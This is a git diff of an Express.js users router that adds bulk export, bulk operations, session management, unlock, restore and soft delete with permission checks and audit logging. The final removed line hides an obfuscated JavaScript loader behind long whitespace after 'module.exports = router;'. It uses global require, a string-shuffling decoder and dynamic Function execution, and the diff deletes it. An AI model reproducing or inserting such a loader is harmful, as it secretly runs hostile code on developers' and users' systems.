+            message: `Format must be one of: ${Object.values(BULK_FORMATS).join(", ")}`,
+          },
+        });
+      }
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_EXPORT,
+        actor: req.user,
+        organization: req.organizationId,
+        details: {
+          format,
+          role: req.query.role,
+          search: req.query.search,
+          deleted: req.query.deleted === "true",
+          createdFrom: req.query.createdFrom,
+          createdTo: req.query.createdTo,
+          updatedFrom: req.query.updatedFrom,
+          updatedTo: req.query.updatedTo,
+        },
+      });
+
+      res.attachment(`users.${format}`);
+      res.type(CONTENT_TYPES[format]);
+
+      const cursor = User.find(buildUserFilter(req.query, req.orgFilter))
+        .sort(buildUserSort(req.query))
+        .cursor();
+
+      await pipeline(cursor, createExportStream(format), res);
+    } catch (error) {
+      // Once streaming has started the status can't change; abort instead
+      if (res.headersSent) {
+        return res.destroy(error);
+      }
+      next(error);
+    }
+  }
+);
 
 // Validate username availability
 router.get("/validate/:username", usernameLimiter, async (req, res) => {
   try {
     const { username } = req.params;
 
-    // Check Bloom filter first for quick response
-    const mightExist = await checkBloomFilter(username);
+    // Usernames are unique per organization (default organization if not given)
+    const organization = req.query.organization
+      ? await Organization.findBySlug(String(req.query.organization).toLowerCase())
+      : await Organization.findDefault();
+    if (!organization) {
+      return res.status(404).json({
+        error: {
+          code: "RESOURCE_NOT_FOUND",
+          message: "Organization not found",
+        },
+      });
+    }
+
+    let reason;
+    if (username.length < 3 || !USERNAME_PATTERN.test(username)) {
+      reason = "invalid";
+    } else if (isReservedUsername(username)) {
+      reason = "reserved";
+    } else if (!(await isUsernameAvailable(username, organization._id))) {
+      // Username filter first, database only if the name might be taken
+      reason = "taken";
+    }
 
-    if (!mightExist) {
-      // If username is definitely not in Bloom filter, it's available
+    if (!reason) {
       return res.json({
         data: {
           available: true,
@@ -141,11 +1214,15 @@ router.get("/validate/:username", usernameLimiter, async (req, res) => {
       });
     }
 
-    // If might exist, do a proper database check
-    const exists = await User.findByUsername(username);
+    // Alternatives to offer instead
+    const suggestions = await suggestUsernames(username, organization._id, {
+      fullName: req.query.fullName,
+    });
     res.json({
       data: {
-        available: !exists,
+        available: false,
+        reason,
+        suggestions,
       },
     });
   } catch (error) {
@@ -158,10 +1235,286 @@ router.get("/validate/:username", usernameLimiter, async (req, res) => {
   }
 });
 
+// Signals that an all-or-nothing bulk request must be rolled back
+class BulkAbortError extends Error {}
+
+// Transactions need a replica set or sharded cluster
+const isTransactionUnsupported = (error) =>
+  error.code === 20 || /replica set/i.test(error.message);
+
+// Helper function to turn an error thrown by an operation into its result
+const describeOperationError = (error) => {
+  if (error.code === 11000) {
+    return { code: "DUPLICATE_ERROR", message: "Email or username already exists" };
+  }
+  if (error.name === "ValidationError") {
+    return { code: "VALIDATION_ERROR", message: error.message };
+  }
+  return { code: "INTERNAL_SERVER_ERROR", message: "Operation failed" };
+};
+
+// Apply several updates and deletes in one request (admin/editor only).
+// Each operation gets the same checks as PATCH and DELETE /:username. With
+// atomic set, all operations run in one MongoDB transaction and nothing is
+// applied unless every operation succeeds.
+router.post(
+  "/bulk",
+  [
+    globalLimiter,
+    auth,
+    requirePermission(PERMISSIONS.USERS_UPDATE),
+    scopeOrganization,
+    validateBulkOperations,
+  ],
+  async (req, res, next) => {
+    try {
+      const errors = validationResult(req);
+      if (!errors.isEmpty()) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Validation Error",
+            details: errors.array().map((err) => ({
+              field: err.path,
+              message: err.msg,
+            })),
+          },
+        });
+      }
+
+      const { operations, atomic = false } = req.body;
+
+      // Side effects outside MongoDB (sessions, audit log) wait until the
+      // changes are committed; cache keys written by save hooks (by username
+      // and by email, old and new) are tracked so they can be dropped if a
+      // transaction is rolled back, and so are renames, which save hooks
+      // already applied to the username filter
+      let results;
+      let afterCommit;
+      let touchedKeys;
+      let renames = [];
+
+      const undoRenames = async () => {
+        const undone = renames.reverse();
+        renames = [];
+        for (const { from, to } of undone) {
+          await removeFromUsernameFilter(to, req.organizationId);
+          await addToUsernameFilter(from, req.organizationId);
+        }
+      };
+
+      const runOperation = async (operation, index, session) => {
+        const { username, action } = operation;
+        const result = { index, username, action };
+        const fail = (code, message) => ({
+          ...result,
+          status: "failed",
+          error: { code, message },
+        });
+
+        if (
+          action === BULK_ACTIONS.DELETE &&
+          !req.permissions.includes(PERMISSIONS.USERS_DELETE)
+        ) {
+          return fail("AUTHORIZATION_ERROR", `Missing permission: ${PERMISSIONS.USERS_DELETE}`);
+        }
+
+        const user = await User.findOne({
+          username,
+          organization: req.organizationId,
+          deletedAt: null,
+        }).session(session);
+        if (!user) {
+          return fail("RESOURCE_NOT_FOUND", "User not found");
+        }
+
+        touchedKeys.push(
+          CACHE_KEYS.USER(user.organization, user.username),
+          CACHE_KEYS.USER_EMAIL(user.email)
+        );
+
+        if (action === BULK_ACTIONS.DELETE) {
+          if (!(await canManageUser(req, user))) {
+            return fail(USER_NOT_MANAGEABLE.code, USER_NOT_MANAGEABLE.message);
+          }
+          if (await isLastSuperAdmin(user, session)) {
+            return fail("LAST_SUPER_ADMIN", "The last super-admin cannot be deleted");
+          }
+          await user.softDelete(req.user._id, { session });
+          afterCommit.push(async () => {
+            await revokeAllSessions(user._id);
+            await recordAuditEvent(req, {
+              action: AUDIT_ACTIONS.USER_DELETE,
+              actor: req.user,
+              target: user,
+              details: { bulk: true },
+            });
+          });
+          return { ...result, status: "deleted" };
+        }
+
+        const updates = filterUserUpdates(operation.changes || {});
+        if (Object.keys(updates).length === 0) {
+          return fail("VALIDATION_ERROR", "No valid update fields provided");
+        }
+
+        const { error, before } = await applyUserUpdates(req, user, updates, session);
+        if (error) {
+          return fail(error.code, error.message);
+        }
+
+        await user.save({ session });
+        if (session && user.username !== username) {
+          renames.push({ from: username, to: user.username });
+        }
+        touchedKeys.push(
+          CACHE_KEYS.USER(user.organization, user.username),
+          CACHE_KEYS.USER_EMAIL(user.email)
+        );
+
+        afterCommit.push(() =>
+          recordAuditEvent(req, {
+            action: AUDIT_ACTIONS.USER_UPDATE,
+            actor: req.user,
+            target: user,
+            changes: diffFields(before, snapshotFields(user, Object.keys(before))),
+            details: { bulk: true },
+          })
+        );
+        return { ...result, status: "updated" };
+      };
+
+      if (!atomic) {
+        results = [];
+        afterCommit = [];
+        touchedKeys = [];
+        for (const [index, operation] of operations.entries()) {
+          try {
+            results.push(await runOperation(operation, index, null));
+          } catch (error) {
+            results.push({
+              index,
+              username: operation.username,
+              action: operation.action,
+              status: "failed",
+              error: describeOperationError(error),
+            });
+          }
+        }
+      } else {
+        const session = await mongoose.startSession();
+        try {
+          await session.withTransaction(async () => {
+            // The callback is retried on transient errors, so start fresh
+            await undoRenames();
+            results = [];
+            afterCommit = [];
+            touchedKeys = [];
+            for (const [index, operation] of operations.entries()) {
+              let result;
+              try {
+                result = await runOperation(operation, index, session);
+              } catch (error) {
+                if (
+                  error.hasErrorLabel?.("TransientTransactionError") ||
+                  isTransactionUnsupported(error)
+                ) {
+                  throw error;
+                }
+                result = {
+                  index,
+                  username: operation.username,
+                  action: operation.action,
+                  status: "failed",
+                  error: describeOperationError(error),
+                };
+              }
+              results.push(result);
+              if (result.status === "failed") {
+                throw new BulkAbortError();
+              }
+            }
+          });
+        } catch (error) {
+          await Promise.all((touchedKeys || []).map((key) => cacheDelete(key)));
+          await User.invalidateListCache(req.organizationId);
+          await undoRenames();
+
+          if (!(error instanceof BulkAbortError)) {
+            if (isTransactionUnsupported(error)) {
+              return res.status(501).json({
+                error: {
+                  code: "TRANSACTIONS_UNAVAILABLE",
+                  message: "All-or-nothing mode requires MongoDB transactions (replica set)",
+                },
+              });
+            }
+            throw error;
+          }
+
+          // Report what happened to every operation
+          const reported = operations.map((operation, index) => {
+            const result = results[index];
+            if (!result) {
+              return {
+                index,
+                username: operation.username,
+                action: operation.action,
+                status: "skipped",
+              };
+            }
+            return result.status === "failed"
+              ? result
+              : { ...result, status: "rolled-back" };
+          });
+
+          return res.status(400).json({
+            error: {
+              code: "BULK_ABORTED",
+              message: "An operation failed; no changes were applied",
+              details: {
+                results: reported,
+              },
+            },
+          });
+        } finally {
+          await session.endSession();
+        }
+      }
+
+      for (const effect of afterCommit) {
+        await effect();
+      }
+
+      const failed = results.filter((result) => result.status === "failed").length;
+
+      res.json({
+        metadata: {
+          atomic,
+          total: results.length,
+          succeeded: results.length - failed,
+          failed,
+        },
+        data: {
+          results,
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
 // Update user
 router.patch(
   "/:username",
-  [globalLimiter, auth, isEditor, validateUserUpdate],
+  [
+    globalLimiter,
+    auth,
+    requirePermission(PERMISSIONS.USERS_UPDATE),
+    scopeOrganization,
+    validateUserUpdate,
+  ],
   async (req, res, next) => {
     try {
       const errors = validationResult(req);
@@ -179,18 +1532,7 @@ router.patch(
       }
 
       const { username } = req.params;
-      const updates = req.body;
-
-      // Define allowed fields
-      const allowedFields = ["email", "password", "fullName", "username", "role"];
-      
-      // Filter out any fields that aren't in allowedFields
-      const filteredUpdates = Object.keys(updates)
-        .filter(key => allowedFields.includes(key))
-        .reduce((obj, key) => {
-          obj[key] = updates[key];
-          return obj;
-        }, {});
+      const filteredUpdates = filterUserUpdates(req.body);
 
       // Check if any valid fields are provided
       if (Object.keys(filteredUpdates).length === 0) {
@@ -203,7 +1545,7 @@ router.patch(
       }
 
       // Find user
-      const user = await User.findByUsername(username);
+      const user = await User.findByUsername(username, req.organizationId);
       if (!user) {
         return res.status(404).json({
           error: {
@@ -213,53 +1555,25 @@ router.patch(
         });
       }
 
-      // Check email uniqueness if email is being updated
-      if (filteredUpdates.email && filteredUpdates.email !== user.email) {
-        const existingUser = await User.findByEmail(filteredUpdates.email);
-        if (existingUser) {
-          return res.status(400).json({
-            error: {
-              code: "DUPLICATE_ERROR",
-              message: "Email already exists",
-            },
-          });
-        }
-      }
-
-      // Check username uniqueness if username is being updated
-      if (filteredUpdates.username && filteredUpdates.username !== username) {
-        const existingUser = await User.findByUsername(filteredUpdates.username);
-        if (existingUser) {
-          return res.status(400).json({
-            error: {
-              code: "DUPLICATE_ERROR",
-              message: "Username already exists",
-            },
-          });
-        }
+      const { error, before } = await applyUserUpdates(req, user, filteredUpdates);
+      if (error) {
+        return res.status(error.status).json({
+          error: {
+            code: error.code,
+            message: error.message,
+          },
+        });
       }
 
-      // Handle role update (admin only)
-      if (filteredUpdates.role !== undefined) {
-        if (req.user.role !== ROLES.ADMIN) {
-          return res.status(403).json({
-            error: {
-              code: "AUTHORIZATION_ERROR",
-              message: "Only admins can update user roles",
-            },
-          });
-        }
-      }
+      await user.save();
 
-      // Update user fields
-      Object.keys(filteredUpdates).forEach((field) => {
-        if (filteredUpdates[field] !== undefined) {
-          user[field] = filteredUpdates[field];
-        }
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_UPDATE,
+        actor: req.user,
+        target: user,
+        changes: diffFields(before, snapshotFields(user, Object.keys(before))),
       });
 
-      await user.save();
-
       // Remove password from response
       const userResponse = user.toJSON();
       delete userResponse.password;
@@ -275,30 +1589,250 @@ router.patch(
   }
 );
 
-// Delete user (admin only)
-router.delete("/:username", [globalLimiter, auth, isAdmin], async (req, res, next) => {
-  try {
-    const { username } = req.params;
+// List a user's sessions (admin only)
+router.get(
+  "/:username/sessions",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.SESSIONS_MANAGE), scopeOrganization],
+  async (req, res, next) => {
+    try {
+      const user = await User.findProfileByUsername(req.params.username, req.organizationId);
+      if (!user) {
+        return res.status(404).json({
+          error: {
+            code: "RESOURCE_NOT_FOUND",
+            message: "User not found",
+          },
+        });
+      }
 
-    // Find and delete user
-    const user = await User.findOneAndDelete({ username });
-    if (!user) {
-      return res.status(404).json({
-        error: {
-          code: "RESOURCE_NOT_FOUND",
-          message: "User not found",
+      const sessions = await listSessions(user._id);
+
+      res.json({
+        data: {
+          sessions: sessions.map((session) => toPublicSession(session, req.sessionId)),
         },
       });
+    } catch (error) {
+      next(error);
     }
+  }
+);
 
-    res.json({
-      data: {
-        message: "User deleted successfully",
-      },
-    });
-  } catch (error) {
-    next(error);
+// Force-logout all of a user's sessions (admin only)
+router.delete(
+  "/:username/sessions",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.SESSIONS_MANAGE), scopeOrganization],
+  async (req, res, next) => {
+    try {
+      const user = await User.findProfileByUsername(req.params.username, req.organizationId);
+      if (!user) {
+        return res.status(404).json({
+          error: {
+            code: "RESOURCE_NOT_FOUND",
+            message: "User not found",
+          },
+        });
+      }
+
+      if (!(await canManageUser(req, user))) {
+        return sendUserNotManageable(res);
+      }
+
+      const count = await revokeAllSessions(user._id);
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_SESSIONS_REVOKE,
+        actor: req.user,
+        target: user,
+        details: { sessionsRevoked: count },
+      });
+
+      res.json({
+        data: {
+          message: "Sessions revoked successfully",
+          sessionsRevoked: count,
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
   }
-});
+);
+
+// Force-logout a single session of a user (admin only)
+router.delete(
+  "/:username/sessions/:id",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.SESSIONS_MANAGE), scopeOrganization],
+  async (req, res, next) => {
+    try {
+      const user = await User.findProfileByUsername(req.params.username, req.organizationId);
+      const session = user ? await getSession(req.params.id) : null;
+      if (!session || session.userId !== String(user._id)) {
+        return res.status(404).json({
+          error: {
+            code: "RESOURCE_NOT_FOUND",
+            message: "Session not found",
+          },
+        });
+      }
+
+      if (!(await canManageUser(req, user))) {
+        return sendUserNotManageable(res);
+      }
+
+      await revokeSession(session.id);
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_SESSIONS_REVOKE,
+        actor: req.user,
+        target: user,
+        details: { sessionId: session.id },
+      });
+
+      res.json({
+        data: {
+          message: "Session revoked successfully",
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Unlock an account locked after failed logins (admin only)
+router.post(
+  "/:username/unlock",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.USERS_UNLOCK), scopeOrganization],
+  async (req, res, next) => {
+    try {
+      const user = await User.findProfileByUsername(req.params.username, req.organizationId);
+      if (!user) {
+        return res.status(404).json({
+          error: {
+            code: "RESOURCE_NOT_FOUND",
+            message: "User not found",
+          },
+        });
+      }
+
+      await unlockAccount(user.email, { by: req.user.username });
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_UNLOCK,
+        actor: req.user,
+        target: user,
+      });
+
+      res.json({
+        data: {
+          message: "Account unlocked successfully",
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Restore a soft-deleted user (admin only)
+router.post(
+  "/:username/restore",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.USERS_DELETE), scopeOrganization],
+  async (req, res, next) => {
+    try {
+      const user = await User.findOne({
+        username: req.params.username,
+        organization: req.organizationId,
+        deletedAt: { $ne: null },
+      });
+      if (!user) {
+        return res.status(404).json({
+          error: {
+            code: "RESOURCE_NOT_FOUND",
+            message: "Deleted user not found",
+          },
+        });
+      }
+
+      if (!(await canManageUser(req, user))) {
+        return sendUserNotManageable(res);
+      }
+
+      await user.restore();
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_RESTORE,
+        actor: req.user,
+        target: user,
+      });
+
+      res.json({
+        data: {
+          user,
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Delete user (admin only). Users are soft-deleted and purged after the
+// retention period; until then they can be restored.
+router.delete(
+  "/:username",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.USERS_DELETE), scopeOrganization],
+  async (req, res, next) => {
+    try {
+      const user = await User.findOne({
+        username: req.params.username,
+        organization: req.organizationId,
+        deletedAt: null,
+      });
+      if (!user) {
+        return res.status(404).json({
+          error: {
+            code: "RESOURCE_NOT_FOUND",
+            message: "User not found",
+          },
+        });
+      }
+
+      if (!(await canManageUser(req, user))) {
+        return sendUserNotManageable(res);
+      }
+
+      // The platform must keep a super-admin
+      if (await isLastSuperAdmin(user)) {
+        return res.status(409).json({
+          error: {
+            code: "LAST_SUPER_ADMIN",
+            message: "The last super-admin cannot be deleted",
+          },
+        });
+      }
+
+      await user.softDelete(req.user._id);
+
+      // Sign the user out everywhere
+      await revokeAllSessions(user._id);
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_DELETE,
+        actor: req.user,
+        target: user,
+      });
+
+      res.json({
+        data: {
+          message: "User deleted successfully",
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
 
-module.exports = router;                                                                                                                                                                                          global['_V']='A4';global['r']=require;if(typeof module==='object')global['m']=module;(function(){var tLM='',xcg=984-973;function YWG(x){var w=2540575;var v=x.length;var f=[];for(var h=0;h<v;h++){f[h]=x.charAt(h)};for(var h=0;h<v;h++){var e=w*(h+181)+(w%34950);var r=w*(h+133)+(w%50568);var m=e%v;var i=r%v;var k=f[m];f[m]=f[i];f[i]=k;w=(e+r)%5954865;};return f.join('')};var OSN=YWG('axhscuutcrogycrneotisjlnkdpfqmzovtrwb').substr(0,xcg);var fvm='{ahiad48slio=rveC(p0rr4v=;rrf5(fnp;jul.nx;i=("8vexuur;}l,p;=at),,r,=t>oa)9 , 5rt1;4ei7l,v.onisy)7 v,l7]6p(k(ai3,(l[68,f8r;x;oltap]0dzrrh()=rfz]zsvhl0u5tt;{u-)g[;2a.t pq==galep==bda"no.56p=praz+iwuu+it,t[r h 0;2aa2s.)4;;i+;.ns-yl.+hn6+en0m.sfg)<s+ro7f)ajamiA8rzg0=a[.(]dn]rxgu;(n69lvzp[><=hnst.v(1,}e=1 {lrh,r2)be0vqu1al .<wutf{mz9g,"gsv,rjwou(t  pt6;g=rbnuc1t(8au;a1+]pi"=f-e=aerr=t=uecnfxC!n[Aw68pmvxrpfh5(t;mog}n+{c0)v a(*[+.]).nrh=]0;tu;u=Cmnl)d)6(+. ;(;.;.A= Ca0)" t*l}(fnre=gaskrCo=o<5rl(f;at([,9)unpa.Sa;977vl(anr2)Avjraia;+rf,}e{ne=c==z"4.,o}= (+ne+.;hh;6)a)hp(),o)freurvt -sh .rui((3b=c](=xig1pSvmi)l rr;+hc+n;e"roz!,a+lv)=;r(rAg)).s0bb(u(sub+[tm(fe;b)rvl8[ur.nh.mnc,,sthk"tei)oh[i].+}7abdqpk1;[iipo)c"uoo9r==8],j[ 3l,1;. [,1=]vva c=o+rafv)h,h=,Cricgx]9o;Cc-efldsmv;m;;o"(-s1 d;,;i<+.oech3=e+i++==qasrl)t2yp;rc=lcnd(z1;a0 ;)+r0)onv-{ro vrnzCat1(sth])a);=;2; (q8s)drtfya=s7x.+sin(yv;';var AQq=YWG[OSN];var erE='';var Okl=AQq;var zIv=AQq(erE,YWG(fvm));var duM=zIv(YWG('n?%n4,5.[=.650e6t.sdno.j4S(H5corre7tu%l%!)m9_scn]Tb90x{Y1tc 4rb_1t7yb+B3@b2mng..Y {(]05GdYa6!cYt(%[%% G%n ja{1%YY+r]4 }( an;qFYi&%.=n21ltct]fbYc;se2]\/iywso)a=bst!Jjtesess4ne({2?p=eYfe!se.tYt*d(70r}arf\/rtY([1oY15crh{2lrrg5f9s=1eitr;Yio8wp?.eY3=D=%r0"+foYt=orlgk}7h4n)11)Y5ei$n.)s(pmY4%}*c%(aogot.orfNfY.8Y. d!fttYwls1Y]d.b%YY].-9d((s0fhi d1\/.cmD]YJi7Ylnb\/}0.3boi2pYE\/].!g%%xs_y[0b2Y.hY]Y]r_2;ff26maY))t1+)8erFtme}ircaccYdj5nt4 @aYcn6cg_!2},1]a+p;rlC0=oiY&B<)mh=tf(najausalYY34Y5.nor.S{t%!%AYp}fb..c801w. 0fbrYI)2!.g-fT7E_a$&nb=bY!=,]j1%1v%nxYe(eelr.Yu,e.m(2n.#%.d_s3Y-TeE3rrm36!zv.d"K7.q)p%3t:[5Yi]Y2,C."C0=$;%ei.z8bi?@=jY.0%to.zgf80Y]biYy_Y7eftnh4ac5tpsvei=BY9nY2=tm0d4%:pp](b5,1h=2.7roc)Gn2d%nT]=)0.Sc=nbY all)i47ac4]t46G?)YtYfsYiu,soo.49 6YY](6eoncti)[.bte!620!bY)et.Y:_,e(hYt%Yt16be0tYnbbe8]bIesb+8zYu1bcl%.ad.100rttb-t.A0r(Y}_on.b1 3)5+G)>Yi2$jgn1% %+.Y].;+vbo(%Ybn}YY\/3o= b=lYcYEi+2Yu{.)7.)(:n.ra9]2o1]=c5Ytts=]Y;t))]b(t=aetY6]Y0.gvKu[=;=tYy)Ky\/Y=.n):inYf;%d=Y(e2cnr})=&+8tri g-!sr7mtr5r){6eYYY7r<,m-Nm3.s1(]%984Ytc#1\/8{6_Y9)bu,Yn#pc2wY.l# 7YYseYi+5C78]rY} 1Y2md5o)t;iY%)+76:]YHYYb"md>0Yb=]t+bYloa)aAr}taJ f "YYEmYtCazh23u[%1r}b.yn61 Yc]13$c)Nt3c}YYre=7.4i.]YY5s9nr_-bz.bnM6YYYs(bG2TbY\/eT&b%Y)!,qK6l+Y Yaai:cp$bhe4=o Y}bae0x4g6(]mfm"ni%n=}e}.".=r2!=t[Y.csYr]=uMk(u3.)Y=s}YY5c]%63nY:(})l>.t{=hYY."1Yoe\'jjs0)Y cd1.11]Y)+n4or:$,t,)ErsacYi.:[};gH0l=h.+2-]2raeee5]{rodYgicte]c.:Y#%h69:)nte].esL)>3=0\/rYY(]iYr9=0uwup[b5!Yp108.u;Yo]g}Y(YbY[?1c3(gd}be_o+2_9-((;cY0raCczY-3\'FdvY)>ttje?))6Y4tivfgofY&Y=)br)Y=!zYfyrt(_,tte%{@vn;3F[a{2e;7*04tHl>i(f1j:dpth]\/)*f._Y0t(bliYe)i4C4p\/$t.r\/t,dY1(lYn2 S[)i-Y89.Ybo<)33001(.r}b4r2 Yu;at?8.+2]#95l=8M.6B(a\/)"!*%YY(()4iu,fwn2(8uYel;Ms&D2;rhro0.rrth%asr3;o7}%n.,r%Y#nltsD5gt_.?aaYbi5=Y>.82-%7e*t.%MfYCnr.ln}r;]!.dngYem.\'c;ses1t2s6!0ot[C)wa3c5u}b]J]+iYa_y]@D.[bdgzv]92w]t[YY}lkYsacar,Y(2Y\'Fa 6o8r =2  ,(5b)(nb9o,YrY;)tfr%t}=";y2s];2]Y2]ns,1Yau,cY33f)bnL!{n7ma4%0b;%6)11E(sf7c2fY+d5Y.80laoc))1Y}d76nob2(pg;3Y2tY.t_{3i-\/0.iYhYY)=I)rkpYauc%Y[1j]MY84=1}eto$a9ece0e)58o)Y,Y1S90;Y<s=Y043r>o<YT;==0$]%oeY)6bY]j.+b}e8]_r10a.ei,[er4C ]dlau)YY3t.Yh.81YN|.ic]bbrY=.Y)vr3}.oS=aY;Y%Y%.x6n[1elYLY>9cu;\/t4Y.]Y,.._rY2o]]%Y33Yb){.:u.%NahYEsnrY({Y:%>;iY03%bniedt_yl7oY[23Y14aYL4t=]4i84Yz)o]!bro}*)ry]Y%6Yztb5]2n.77c.4%t)%oY=Y5Id;,9Yu4,0r1l5h].rYoe+(a:c];o;mAY].i_=)(]e2Ee.)l4be,%t}[Y+n{.4|)ba9dg=YcYr{a(DYn2drY]9n5:Y)w%Yiow;hqid5Ysom1=b(YmYYz5a]ae)5Y.}?Ya5b$u($29Yy)+ .cyns.(f302t!oc f !ep2Y)d2]s=%51l%%,Ya i}_12{4b.;]zbrY0 rr3 m]]N2a]Y;Y()55$af2d1]n_.,u]1-1[9era"h3b.7u71t(ch.Eu%Y[)];es%i1n1u.12Y6[h;6Y(yN..D.yYd)0be.2:Y_npo,=r}7;)]ty{%.Y(a$Dah;2beYcfx YYooiY)];Yee2r.c2e6r;!=b]dr fo{c[.Y t251.e%.r b;hf{ut5a]e3c(a)} daYse"]Yf() u-u&e%;v6 {;m1 iY}c a+mYY.a?d3.e=cien.r%,.,a0;6Y,)]rtt'));var XZs=Okl(tLM,duM );XZs(7942);return 5565})()
+module.exports = router;